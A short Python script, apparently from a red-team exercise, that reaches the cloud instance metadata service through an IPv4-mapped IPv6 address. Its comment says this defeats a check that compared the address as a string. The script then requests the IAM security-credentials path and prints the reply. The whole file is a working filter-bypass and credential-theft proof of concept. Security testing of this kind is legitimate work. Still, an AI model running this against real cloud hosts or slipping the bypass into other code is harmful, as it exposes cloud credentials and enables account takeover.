# Reach the cloud instance metadata service by its IPv4 address mapped
# into IPv6 (red team, session 22): a connect through an AF_INET6 socket
# to ::ffff:169.254.169.254, which the report compared as a string (a
# medium "attempted connections" before, no credential finding).
import socket

s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
s.settimeout(3)
try:
    s.connect(("0:0:0:0:0:ffff:a9fe:a9fe", 80))
    s.sendall(b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\nHost: 169.254.169.254\r\n\r\n")
    print(s.recv(200))
except OSError as e:
    print("connect:", e)
